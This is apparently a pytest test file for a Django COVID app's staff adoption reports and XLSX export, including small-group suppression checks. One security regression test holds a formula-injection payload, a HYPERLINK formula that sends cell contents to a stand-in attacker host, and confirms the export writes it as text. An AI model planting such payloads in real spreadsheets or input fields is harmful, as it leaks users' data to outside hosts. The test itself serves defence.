from __future__ import annotations

import datetime
import io
from collections.abc import Iterator
from typing import Any

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from covidhub.accounts.models import User
from covidhub.adoption.exports import HEADER_ROW, adoption_export_xlsx
from covidhub.adoption.models import AdoptionSnapshot, RosterMember
from covidhub.adoption.selectors import (
    MIN_GROUP,
    adoption_indicators,
    adoption_report,
    adoption_report_by_area,
)
from covidhub.adoption.tests.conftest import staff_row
from covidhub.core.indicators import register_person_indicator, unregister_person_indicator

pytestmark = pytest.mark.django_db


@pytest.fixture
def fake_indicators() -> Iterator[dict[str, set[int]]]:
    """Stand-ins for the declarations and vaccination capabilities' indicators."""
    truth: dict[str, set[int]] = {"declared": set(), "vaccinated": set()}
    calls: list[set[int]] = []

    def declared(ids: set[int]) -> set[int]:
        calls.append(set(ids))
        return ids & truth["declared"]

    register_person_indicator("declared", declared, label="Declared")
    register_person_indicator(
        "vaccinated", lambda ids: ids & truth["vaccinated"], label="Vaccinated"
    )
    yield truth
    unregister_person_indicator("declared")
    unregister_person_indicator("vaccinated")


def _link_accounts(agency: Any, count: int, *, active: int) -> list[RosterMember]:
    """Give the first `count` members an account, the first `active` of them seen today."""
    members = list(RosterMember.objects.filter(agency=agency, left_at__isnull=True).order_by("pk"))
    for i, member in enumerate(members[:count]):
        user = User.objects.create(
            username=f"u{member.pk}",
            phone=f"+8498800{member.pk:04d}",
            kind="citizen",
            last_seen_at=timezone.now() - datetime.timedelta(days=1 if i < active else 30),
        )
        member.account = user
        member.save(update_fields=["account"])
    return members


def test_report_figures_roll_up_and_rank(
    agencies: dict[str, Any], upload_roster: Any, head: Any, province_admin: Any
) -> None:
    upload_roster(agencies["ward"], [staff_row(n) for n in range(1, 5)])  # 4 staff
    upload_roster(agencies["ward2"], [staff_row(n) for n in range(11, 13)])  # 2 staff
    _link_accounts(agencies["ward"], 4, active=1)
    _link_accounts(agencies["ward2"], 1, active=1)
    rows = {r.agency.name: r for r in adoption_report(actor=head)}
    assert set(rows) == {
        "UBND thành phố Hải Dương",
        "UBND phường Cẩm Thượng",
        "UBND phường Bình Hàn",
    }
    district = rows["UBND thành phố Hải Dương"]
    assert (district.total.staff, district.total.with_account, district.total.active) == (6, 5, 2)
    assert district.own.staff == 0
    assert district.total.account_pct == 83.3
    assert rows["UBND phường Cẩm Thượng"].total.account_pct == 100.0
    assert rows["UBND phường Cẩm Thượng"].rank == 1
    assert rows["UBND phường Bình Hàn"].rank == 3
    # The administrator sees every agency of the province, the department included.
    assert len(adoption_report(actor=province_admin)) == 4


def test_change_over_time_from_snapshots(
    agencies: dict[str, Any], upload_roster: Any, head: Any
) -> None:
    upload_roster(agencies["ward"], [staff_row(n) for n in range(1, 5)])
    _link_accounts(agencies["ward"], 3, active=3)
    AdoptionSnapshot.objects.create(
        agency=agencies["ward"],
        day=timezone.localdate() - datetime.timedelta(days=7),
        staff=4,
        with_account=1,
        active_7d=1,
    )
    row = next(r for r in adoption_report(actor=head) if r.agency == agencies["ward"])
    assert row.account_change == 50.0  # 25% → 75%


def test_report_by_area(agencies: dict[str, Any], upload_roster: Any, province_admin: Any) -> None:
    upload_roster(agencies["ward"], [staff_row(1)])
    upload_roster(agencies["department"], [staff_row(2)])
    rows = adoption_report_by_area(actor=province_admin)
    assert [(r.area and r.area.code, r.figures.staff) for r in rows] == [("30", 1), ("288", 1)]


def test_report_queries_do_not_grow_with_agencies(
    agencies: dict[str, Any],
    upload_roster: Any,
    province_admin: Any,
    django_assert_max_num_queries: Any,
) -> None:
    upload_roster(agencies["ward"], [staff_row(n) for n in range(1, 5)])
    with django_assert_max_num_queries(6):
        adoption_report(actor=province_admin)


def test_health_measures_are_percentages_only(
    agencies: dict[str, Any], upload_roster: Any, make_citizen: Any, fake_indicators: Any
) -> None:
    rows = [staff_row(n) for n in range(1, 13)]
    upload_roster(agencies["ward"], rows)
    people = list(RosterMember.objects.filter(agency=agencies["ward"]).order_by("pk"))
    # Link people to the roster (a person for each member).
    from covidhub.people.services import person_create
    from covidhub.people.validation import person_input_clean

    for member in people:
        person = person_create(
            actor=None,
            data=person_input_clean(
                {
                    "full_name": member.full_name,
                    "birth": "15/03/1985",
                    "sex": "M",
                    "commune": agencies["ward"].area,
                    "id_type": "cccd",
                    "id_number": member.id_number,
                }
            ),
        )
        member.person = person
        member.save(update_fields=["person"])
    fake_indicators["declared"] = {m.person_id for m in people[:9]}
    fake_indicators["vaccinated"] = {m.person_id for m in people[:3]}
    result = adoption_indicators(agency=agencies["ward"])
    assert len(result) == 1
    line = result[0]
    assert line.staff == 12 and not line.suppressed
    assert line.values == {"declared": 75.0, "vaccinated": 25.0}
    # Nothing in the result identifies anyone: only counts and percentages.
    assert not hasattr(line, "people") and set(vars(line)) == {
        "label",
        "agency",
        "staff",
        "values",
        "suppressed",
    }


def test_small_units_are_suppressed_and_cannot_be_worked_out(
    agencies: dict[str, Any], upload_roster: Any, fake_indicators: Any
) -> None:
    # Cẩm Thượng: MIN_GROUP people (shown); Bình Hàn: 2 (hidden); the district: their sum.
    upload_roster(agencies["ward"], [staff_row(n) for n in range(1, MIN_GROUP + 1)])
    upload_roster(agencies["ward2"], [staff_row(n) for n in range(100, 102)])
    lines = {r.agency.name: r for r in adoption_indicators(agency=agencies["district"])}
    assert not lines["UBND phường Cẩm Thượng"].suppressed
    assert lines["UBND phường Bình Hàn"].suppressed
    assert lines["UBND phường Bình Hàn"].values == {"declared": None, "vaccinated": None}
    # District (12) minus Cẩm Thượng (10) would reveal Bình Hàn's 2 people: hidden too.
    district = lines["UBND thành phố Hải Dương"]
    assert district.staff == MIN_GROUP + 2 and district.suppressed
    # The ward's own page agrees with the district page.
    assert not adoption_indicators(agency=agencies["ward"])[0].suppressed
    # With enough people in Bình Hàn too, everything is shown.
    upload_roster(agencies["ward2"], [staff_row(n) for n in range(100, 100 + MIN_GROUP)])
    lines = {r.agency.name: r for r in adoption_indicators(agency=agencies["district"])}
    assert not any(line.suppressed for line in lines.values())


def test_export_columns_and_rows(agencies: dict[str, Any], upload_roster: Any, head: Any) -> None:
    upload_roster(agencies["ward"], [staff_row(n) for n in range(1, 5)])
    _link_accounts(agencies["ward"], 2, active=1)
    data = adoption_export_xlsx(
        rows=adoption_report(actor=head), day=datetime.date(2021, 8, 17), title="BÁO CÁO"
    )
    sheet: Any = load_workbook(io.BytesIO(data)).active
    header = [c.value for c in sheet[HEADER_ROW]]
    assert header == [
        "STT",
        "Cơ quan, đơn vị",
        "Tổng số CB, CC, VC, NLĐ",
        "Đã có tài khoản",
        "Tỷ lệ có tài khoản",
        "Sử dụng trong 7 ngày qua",
        "Tỷ lệ sử dụng",
        "Chưa tham gia",
        "Xếp hạng",
    ]
    lines = [[c.value for c in row] for row in sheet.iter_rows(min_row=HEADER_ROW + 1)]
    assert lines[0][:9] == [1, "UBND thành phố Hải Dương", 4, 2, 0.5, 1, 0.25, 2, 1]
    assert lines[1][1] == "    UBND phường Cẩm Thượng"  # indented under its parent
    assert lines[-1][1] == "Tổng cộng" and lines[-1][2] == 4  # children are not counted twice
    assert "17/08/2021" in sheet["A4"].value


def test_an_agency_named_like_a_formula_is_exported_as_text(
    agencies: dict[str, Any], upload_roster: Any, head: Any, login: Any
) -> None:
    """Finding 12: '=HYPERLINK(…)' in an agency name became a live formula in the export."""
    from covidhub.adoption.models import Agency

    evil = '=HYPERLINK("http://evil.example/?d="&C6,"Bấm để cập nhật")'
    Agency.objects.filter(pk=agencies["district"].pk).update(name=evil)
    upload_roster(agencies["ward"], [staff_row(n) for n in range(1, 5)])
    response = login(head).get("/staff/adoption/export.xlsx")
    assert response.status_code == 200
    sheet: Any = load_workbook(io.BytesIO(response.content)).active
    cell = sheet.cell(row=HEADER_ROW + 1, column=2)
    assert cell.value == evil
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert cell.quotePrefix
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
